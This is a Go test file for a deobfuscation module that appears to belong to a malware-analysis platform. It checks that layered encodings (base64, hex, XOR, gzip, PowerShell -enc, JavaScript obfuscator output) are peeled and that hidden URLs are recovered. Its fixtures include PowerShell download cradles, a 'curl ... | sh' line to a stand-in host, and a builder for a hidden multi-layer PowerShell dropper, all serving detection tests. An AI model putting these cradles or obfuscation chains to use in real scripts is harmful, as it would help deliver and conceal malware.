package deobfuscator

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	analysisv1 "github.com/athena-mesh/athena/wasm-modules/internal/gen/athena/analysis/v1"
	modulev1 "github.com/athena-mesh/athena/wasm-modules/internal/gen/athena/module/v1"
	"github.com/athena-mesh/athena/wasm-modules/network"
)

func gz(t testing.TB, b []byte) []byte {
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	if _, err := w.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func deflateRaw(t testing.TB, b []byte) []byte {
	var buf bytes.Buffer
	w, _ := flate.NewWriter(&buf, flate.BestCompression)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

func zl(t testing.TB, b []byte) []byte {
	var buf bytes.Buffer
	w := zlib.NewWriter(&buf)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

func utf16le(s string) []byte {
	var out []byte
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

// decodedTexts returns every layer's content.
func decodedTexts(res *Result) []string {
	var out []string
	for _, l := range res.Layers {
		out = append(out, string(l.Data))
	}
	return out
}

func containsAny(layers []string, want string) bool {
	for _, l := range layers {
		if strings.Contains(l, want) {
			return true
		}
	}
	return false
}

func TestDecoders(t *testing.T) {
	const secret = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/p.ps1')"
	xorKeyed := func(s string, k []byte) []byte { return xorKey([]byte(s), k) }
	prose := "When the victim opens the attachment, the macro writes a script to the temp folder and runs it. " +
		"The script fetches the second stage from http://evil.example.com/x.exe over plain HTTP, saves it next to " +
		"the user's documents, and schedules it to start at every logon so that the implant survives a reboot."
	long := strings.Repeat("The payload downloads http://evil.example.com/x.exe and runs it with cmd /c start. ", 4)
	tests := []struct {
		name  string
		in    string
		want  string
		chain string // a provenance step that must appear
	}{
		{"base64", "data = '" + b64([]byte(secret)) + "'", secret, "base64"},
		{"base64 url-safe no padding", "x=" + base64.RawURLEncoding.EncodeToString([]byte(secret+"??>>")), secret, "base64"},
		{"base64 wrapped", "-----\n" + wrap(b64([]byte(long)), 64) + "\n-----", "evil.example.com/x.exe", "base64"},
		{"base32", "k = \"" + base32.StdEncoding.EncodeToString([]byte(secret)) + "\"", secret, "base32"},
		{"hex", "h='" + hex.EncodeToString([]byte(secret)) + "'", secret, "hex"},
		{"hex 0x list", "b = [" + hexList([]byte(secret), "0x", ",") + "]", secret, "hex"},
		{"backslash x", `s = "` + hexList([]byte(secret), `\x`, "") + `"`, secret, "hex_escape"},
		{"unicode escape", `s = "\u0068\u0074\u0074\u0070\u003a\u002f\u002f\u0065\u0076\u0069\u006c\u002e\u0063\u006f\u006d"`, "http://evil.com", "unicode_escape"},
		{"percent", "u=%68%74%74%70%3A%2F%2Fevil.example.com%2Fa", "http://evil.example.com/a", "url_escape"},
		{"percent u", "u=%u0068%u0074%u0074%u0070%u003a//x.example.com", "http://x.example.com", "percent_u"},
		{"html entities", "<a href=\"&#104;&#116;&#116;&#112;&#x3a;//evil.example.com/&amp;\">", "http://evil.example.com/&", "html_entity"},
		{"fromCharCode", "eval(String.fromCharCode(104,116,116,112,58,47,47,101,118,105,108,46,99,111,109))", "'http://evil.com'", "fromcharcode"},
		{"fromCharCode arithmetic", "String.fromCharCode(100+4,0x74,117-1,112)", "'http'", "fromcharcode"},
		{"charcode shift", "var a=[" + shifted("powershell -nop http://evil.example.com", 3) + "];", "powershell -nop http://evil.example.com", "charcode_shift(3)"},
		{"concat", `$u = 'ht'+'tp://ev' + "il.exa"+'mple.com/a.ps1'`, "'http://evil.example.com/a.ps1'", "concat"},
		{"array join", `var u = ['htt','p://','evil.example.com'].join('');`, "'http://evil.example.com'", "join"},
		{"ps -join", `$u = ('htt','p://','evil.example.com') -join ''`, "'http://evil.example.com'", "join"},
		{"ps format", `$u = ("{2}{0}{1}" -f 'p://evil','.example.com','htt')`, "'http://evil.example.com'", "format"},
		{"ps replace", `$u = ('hXXp://evilQQexample.com' -replace 'XX','tt') -replace 'QQ','.'`, "'http://evil.example.com'", "replace"},
		{"ps backtick", "I`E`X (N`ew-Obj`ect Net.WebClient).Dow`nloadString('http://evil.example.com')", "IEX (New-Object Net.WebClient).DownloadString", "strip_backtick"},
		{"cmd caret", "c^m^d /c p^o^w^e^r^s^h^e^l^l -nop -c calc", "cmd /c powershell -nop", "strip_caret"},
		{"ps char casts", "$x = [char]104+[char]116+[char]116+[char]112", "'http'", "charcode"},
		{"reversed", string(reverse([]byte(secret + "; powershell -nop -w hidden; cmd /c"))), secret, "reverse"},
		{"reversed base64", "$s = '" + string(reverse([]byte(b64([]byte(secret+"!"))))) + "'", secret, "base64"},
		{"rot13", string(rot13([]byte("powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com')"))), "DownloadString", "rot13"},
		{"gzip base64", "H4s = '" + b64(gz(t, []byte(long))) + "'", "evil.example.com/x.exe", "gzip"},
		{"zlib base64", "z = '" + b64(zl(t, []byte(long))) + "'", "evil.example.com/x.exe", "zlib"},
		{"deflate base64", "[IO.Compression.DeflateStream] '" + b64(deflateRaw(t, []byte(long))) + "'", "evil.example.com/x.exe", "deflate"},
		{"single xor", "blob = '" + b64(xorKeyed(long, []byte{0x37})) + "'", "evil.example.com/x.exe", "xor(0x37)"},
		{"repeating xor", "blob = '" + b64(xorKeyed(prose, []byte("K3y!"))) + "'", "evil.example.com/x.exe", "xor(4b337921)"},
		{"utf16le base64", "x='" + b64(utf16le(secret)) + "'", secret, "utf16le"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			res := Search([]byte(tc.in), DefaultLimits(), time.Time{}, nil)
			texts := decodedTexts(res)
			if !containsAny(texts, tc.want) {
				t.Fatalf("no layer contains %q; layers:\n%s", tc.want, strings.Join(texts, "\n---\n"))
			}
			found := false
			for _, l := range res.Layers {
				if strings.Contains(string(l.Data), tc.want) && slices.Contains(l.Provenance, tc.chain) {
					found = true
				}
			}
			if !found {
				var provs []string
				for _, l := range res.Layers {
					provs = append(provs, strings.Join(l.Provenance, ">"))
				}
				t.Errorf("no layer with %q has %q in its provenance: %v", tc.want, tc.chain, provs)
			}
		})
	}
}

func wrap(s string, n int) string {
	var b strings.Builder
	for len(s) > n {
		b.WriteString(s[:n] + "\n")
		s = s[n:]
	}
	b.WriteString(s)
	return b.String()
}

func hexList(b []byte, prefix, sep string) string {
	parts := make([]string, len(b))
	for i, c := range b {
		parts[i] = fmt.Sprintf("%s%02x", prefix, c)
	}
	return strings.Join(parts, sep)
}

func shifted(s string, k int) string {
	parts := make([]string, len(s))
	for i := range s {
		parts[i] = fmt.Sprint(int(s[i]) + k)
	}
	return strings.Join(parts, ",")
}

func TestFastReject(t *testing.T) {
	for _, in := range []string{
		"The quick brown fox jumps over the lazy dog. Nothing to see here, just prose with 50 % less fat.",
		"func main() {\n\tfmt.Println(\"hello, world\")\n}\n",
		"2026-11-27T07:29:00Z INFO server started on port 8080 (pid 1234)\n",
	} {
		res := Search([]byte(in), DefaultLimits(), time.Time{}, nil)
		if len(res.Layers) != 0 || res.Candidates != 0 {
			t.Errorf("%q: %d layers, %d candidates; want nothing", in, len(res.Layers), res.Candidates)
		}
	}
}

// TestCyberChefChain peels base64 → hex → XOR 0x5A → gzip, the recipe CyberChef users write.
func TestCyberChefChain(t *testing.T) {
	original := []byte("#!/bin/sh\ncurl -s http://203.0.113.9/x.sh | sh\necho the payload ran\n")
	in := b64([]byte(hex.EncodeToString(xorKey(gz(t, original), []byte{0x5a}))))
	res := Search([]byte(in), DefaultLimits(), time.Time{}, nil)
	var got *Layer
	for _, l := range res.Layers {
		if bytes.Equal(l.Data, original) {
			got = l
		}
	}
	if got == nil {
		t.Fatalf("original not recovered; layers: %q", decodedTexts(res))
	}
	if want := []string{"base64", "hex", "xor(0x5a)", "gzip"}; !slices.Equal(got.Provenance, want) {
		t.Errorf("provenance = %v, want %v", got.Provenance, want)
	}
	if !got.Artifact {
		t.Error("the recovered original is not an artifact")
	}
}

// powershellSample builds a four-layer PowerShell dropper: -EncodedCommand (UTF-16LE base64)
// → a GzipStream cradle over base64 → a FromBase64String cradle → a script that builds its URL
// by string concatenation.
func powershellSample(t testing.TB) (string, string) {
	const url = "http://dl.athena-test.xyz/stage3/payload.ps1"
	inner := `$u = 'http://dl.athe'+'na-test.xyz/st'+"age3/pay"+'load.ps1'; IEX (New-Object Net.WebClient).DownloadString($u)`
	l3 := `IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('` + b64([]byte(inner)) + `')))`
	l2 := `IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('` +
		b64(gz(t, []byte(l3))) + `'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`
	return "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc " + b64(utf16le(l2)), url
}

func TestPowerShellLayersToIOC(t *testing.T) {
	sample, url := powershellSample(t)
	m := New()
	resp, err := m.Analyze(&modulev1.AnalyzeRequest{Content: []byte(sample)})
	if err != nil {
		t.Fatal(err)
	}
	d := resp.GetDetails().GetDeobfuscation()
	if d.GetMaxDepth() < 4 {
		t.Errorf("max depth = %d, want >= 4", d.GetMaxDepth())
	}
	ids := map[string]bool{}
	for _, f := range resp.Findings {
		ids[f.Id] = true
		if f.Module != Name || f.Reason == "" || f.Score <= 0 && f.Severity != analysisv1.Severity_SEVERITY_INFO {
			t.Errorf("finding %s incomplete: %v", f.Id, f)
		}
	}
	for _, id := range []string{"deobf.powershell_encoded", "deobf.multi_layer", "deobf.download_cradle"} {
		if !ids[id] {
			t.Errorf("missing finding %s (got %v)", id, ids)
		}
	}
	// Chain into the network module the way the orchestrator does: every artifact is analyzed.
	net := network.New()
	var urls []string
	for _, a := range resp.Artifacts {
		if a.Kind != analysisv1.ArtifactKind_ARTIFACT_KIND_DECODED || len(a.Provenance) == 0 || a.Description == "" {
			t.Errorf("artifact incomplete: kind %v provenance %v", a.Kind, a.Provenance)
		}
		nr, err := net.Analyze(&modulev1.AnalyzeRequest{Content: a.Content})
		if err != nil {
			t.Fatal(err)
		}
		for _, i := range nr.Iocs {
			if i.Type == analysisv1.IOCType_IOC_TYPE_URL {
				urls = append(urls, i.Value)
			}
		}
	}
	if !slices.Contains(urls, url) {
		t.Errorf("URL %s not among artifact IOCs %v", url, urls)
	}
	if len(resp.Artifacts) > 6 {
		t.Errorf("%d artifacts for a four-layer sample; want the meaningful layers only", len(resp.Artifacts))
	}
}

// TestJavaScriptObfuscatorFixtures reads the javascript-obfuscator outputs committed under
// testdata/js (regenerate with node generate.js) and checks the hidden URLs come back.
func TestJavaScriptObfuscatorFixtures(t *testing.T) {
	urls := []string{"http://payload.athena-test.xyz/stage2.bin", "https://cdn.evil-updates.com/gate.php?id=42"}
	tests := []struct {
		file      string
		recovered bool // false: needs the sandbox module (see docs/deobfuscation.md)
	}{
		{"string-array.js", true},
		{"string-array-base64.js", true},
		{"string-array-rc4.js", true},
		{"string-array-base64-unicode.js", true},
		{"rc4-split-strings.js", false},
	}
	for _, tc := range tests {
		t.Run(tc.file, func(t *testing.T) {
			src, err := os.ReadFile(filepath.Join("testdata", "js", tc.file))
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Contains(src, []byte("_0x")) || bytes.Contains(src, []byte("athena-test.xyz")) && tc.file != "string-array.js" {
				t.Fatalf("%s is not obfuscated as expected", tc.file)
			}
			m := New()
			resp, err := m.Analyze(&modulev1.AnalyzeRequest{Content: src})
			if err != nil {
				t.Fatal(err)
			}
			contents := [][]byte{src}
			for _, a := range resp.Artifacts {
				contents = append(contents, a.Content)
			}
			var got []string
			for _, c := range contents {
				for _, i := range network.Extract(c, network.DefaultExtractLimits()) {
					if i.Type == analysisv1.IOCType_IOC_TYPE_URL {
						got = append(got, i.Value)
					}
				}
			}
			for _, u := range urls {
				if slices.Contains(got, u) != tc.recovered {
					t.Errorf("URL %s recovered = %v, want %v (urls %v)", u, !tc.recovered, tc.recovered, got)
				}
			}
		})
	}
}

func TestPathological(t *testing.T) {
	t.Run("10000 nested gzip layers", func(t *testing.T) {
		b := []byte("IEX 'http://deep.example.com/'")
		var buf bytes.Buffer
		w, _ := gzip.NewWriterLevel(&buf, gzip.NoCompression)
		for i := 0; i < 10000; i++ {
			buf.Reset()
			w.Reset(&buf)
			w.Write(b)
			w.Close()
			b = append([]byte{}, buf.Bytes()...)
		}
		lim := DefaultLimits()
		res := Search([]byte("x='"+b64(b)+"'"), lim, time.Time{}, nil)
		if !res.BudgetExhausted {
			t.Error("budget not reported exhausted")
		}
		if res.MaxDepth > lim.MaxDepth || len(res.Layers) > lim.MaxLayers {
			t.Errorf("depth %d layers %d beyond limits", res.MaxDepth, len(res.Layers))
		}
	})
	t.Run("50 MB base64 blob", func(t *testing.T) {
		r := rand.New(rand.NewPCG(1, 2))
		raw := make([]byte, 37<<20)
		for i := range raw {
			raw[i] = byte(r.Uint32())
		}
		in := []byte(b64(raw))
		lim := DefaultLimits()
		res := Search(in, lim, time.Time{}, nil)
		if res.WorkBytes > lim.MaxWorkBytes+int64(len(in)) {
			t.Errorf("work %d beyond budget %d", res.WorkBytes, lim.MaxWorkBytes)
		}
		if len(res.Layers) != 0 {
			t.Errorf("random bytes kept as %d layers", len(res.Layers))
		}
	})
	t.Run("gzip bomb", func(t *testing.T) {
		bomb := gz(t, make([]byte, 64<<20))
		lim := DefaultLimits()
		lim.MaxLayerBytes = 1 << 20
		res := Search([]byte("x='"+b64(bomb)+"'"), lim, time.Time{}, nil)
		for _, l := range res.Layers {
			if len(l.Data) > lim.MaxLayerBytes {
				t.Errorf("layer of %d bytes beyond %d", len(l.Data), lim.MaxLayerBytes)
			}
		}
	})
	t.Run("work budget", func(t *testing.T) {
		var sb strings.Builder
		for i := 0; i < 5000; i++ {
			sb.WriteString("v" + fmt.Sprint(i) + "='" + b64([]byte(fmt.Sprintf("powershell -nop http://h%d.example.com/ payload", i))) + "';\n")
		}
		lim := DefaultLimits()
		lim.MaxWorkBytes = 64 << 10
		res := Search([]byte(sb.String()), lim, time.Time{}, nil)
		if !res.BudgetExhausted || res.WorkBytes > lim.MaxWorkBytes+int64(sb.Len())*2 {
			t.Errorf("exhausted %v work %d", res.BudgetExhausted, res.WorkBytes)
		}
		if len(res.Layers) > lim.MaxCandidates {
			t.Errorf("%d layers from one layer, want <= %d candidates", len(res.Layers), lim.MaxCandidates)
		}
	})
	t.Run("expired deadline", func(t *testing.T) {
		sample, _ := powershellSample(t)
		var sb strings.Builder
		for i := 0; i < 200; i++ {
			sb.WriteString(sample + "\n")
			sb.WriteString(b64([]byte(fmt.Sprint("powershell http://x", i, ".example.com"))) + "\n")
		}
		res := Search([]byte(sb.String()), DefaultLimits(), time.Now().Add(-time.Second), nil)
		if !res.BudgetExhausted || res.Candidates > 64 {
			t.Errorf("exhausted %v after %d candidates", res.BudgetExhausted, res.Candidates)
		}
	})
}

func TestStreaming(t *testing.T) {
	sample, _ := powershellSample(t)
	big := strings.Repeat(sample+"\n", (streamThreshold/len(sample))+1)
	var frags []*modulev1.AnalyzeResponse
	m := New(WithEmit(func(r *modulev1.AnalyzeResponse) { frags = append(frags, r) }))
	resp, err := m.Analyze(&modulev1.AnalyzeRequest{Content: []byte(big)})
	if err != nil {
		t.Fatal(err)
	}
	if len(frags) == 0 {
		t.Fatal("no fragments emitted for a large input")
	}
	if n := len(resp.GetDetails().GetDeobfuscation().GetLayers()); n != 0 {
		t.Errorf("final response repeats %d streamed layers", n)
	}
}

func FuzzSearch(f *testing.F) {
	sample, _ := powershellSample(f)
	for _, s := range []string{sample, "String.fromCharCode(104,116)", "'a'+'b'", "%41%u0042&#67;\\x44", "=AAAA", "H4sIAAAAAAAA",
		"(\"{1}{0}\" -f 'a','b')", "('x' -replace 'x','y')", "[char]65+[char]66", "1,2,3,4,5,6,7,8,9"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		lim := Limits{MaxDepth: 4, MaxLayerBytes: 1 << 20, MaxWorkBytes: 4 << 20, MaxCandidates: 8, MaxLayers: 16, MaxArtifacts: 4, MinRun: 16}
		res := Search(b, lim, time.Time{}, nil)
		if len(res.Layers) > lim.MaxLayers || res.MaxDepth > lim.MaxDepth {
			t.Fatalf("limits exceeded: %d layers depth %d", len(res.Layers), res.MaxDepth)
		}
	})
}

func FuzzDecoders(f *testing.F) {
	f.Add([]byte("aGVsbG8gd29ybGQ="))
	f.Add([]byte("0x41,0x42"))
	f.Add([]byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0})
	f.Fuzz(func(t *testing.T, b []byte) {
		decodeBase64(b)
		decodeBase64Alphabet(b, jsObfuscatorAlphabet)
		decodeBase32(b)
		decodeHex(b)
		for _, k := range []string{"gzip", "zlib", "deflate"} {
			if out, _, _ := inflate(b, k, 1<<16); len(out) > 1<<16 {
				t.Fatalf("%s output %d beyond cap", k, len(out))
			}
		}
		utf16LE(b)
		unescape(b)
		if len(b) > 0 {
			rc4(b, b[:1])
		}
		bestSingleXOR(b)
		repeatingXOR(b)
		parseIntList(string(b))
		if vals, ok := parseIntList(string(b)); ok && len(vals) > 0 {
			charcodes(vals)
		}
		formatPS(string(b), []string{"a"})
		replacePS(string(b), string(b), "x")
		stripBackticks(string(b))
	})
}

// FuzzFoldGates: the cheap checks that decide whether a fold's regular expression runs must hold
// wherever the expression matches, or a fold would be skipped.
func FuzzFoldGates(f *testing.F) {
	for _, s := range []string{`'a' + 'b'`, "\"x\"\n+\t'y'", `('a','b') -JOIN ''`, `("ab" -creplace 'a','c')`,
		`("{0}" -F 'x')`, `x = a + "b" + c`, `["a","b"].join("")`, "[ 'a' ] . join ( \"\" )", "('a','b')-join\t\"\"",
		`("{0}{1}"-f"a","b")`, `.join(",")`, `a-f'`} {
		f.Add(s)
	}
	re, concat := compileRegexes(), concatExpr()
	f.Fuzz(func(t *testing.T, s string) {
		if concat.MatchString(s) && !hasConcat(s) {
			t.Fatalf("concat matches %q but hasConcat says no", s)
		}
		if re.join.MatchString(s) && !hasJoinCall(s) {
			t.Fatalf("join matches %q but hasJoinCall says no", s)
		}
		if re.psJoin.MatchString(s) && !hasPSJoin(s) {
			t.Fatalf("psJoin matches %q but hasPSJoin says no", s)
		}
		if re.replace.MatchString(s) && !containsFoldString(s, "-replace") && !containsFoldString(s, "-creplace") {
			t.Fatalf("replace matches %q without -replace", s)
		}
		if re.format.MatchString(s) && !hasFormatOp(s) {
			t.Fatalf("format matches %q but hasFormatOp says no", s)
		}
	})
}

// concatExpr is the regular expression foldConcat replaces: a quoted literal, "+", a quoted
// literal.
func concatExpr() *regexp.Regexp {
	return regexp.MustCompile(`('[^'\n\\]*'|"[^"\n\\]*")\s*\+\s*('[^'\n\\]*'|"[^"\n\\]*")`)
}

// FuzzFoldConcat holds the linear concatenation fold to the regular expression it replaces.
func FuzzFoldConcat(f *testing.F) {
	for _, s := range []string{`'a' + 'b'`, `'a'+'b'+'c'`, "\"x\"\n+\t'y'", `x = 'a' + y + 'b'`, `'a\'+'b'`,
		`"a" + 'b' "c"+"d"`, "'a\n' + 'b'", `''+''`, `'+'+'+'`, `"'" + "'"`} {
		f.Add(s)
	}
	concat := concatExpr()
	f.Fuzz(func(t *testing.T, s string) {
		want := replaceFixed(concat, s, func(m []string) string { return "<" + m[1] + "|" + m[2] + ">" })
		got := foldConcat(s, func(a, b string) string { return "<" + a + "|" + b + ">" })
		if got != want {
			t.Fatalf("foldConcat(%q) = %q, the expression gives %q", s, got, want)
		}
	})
}
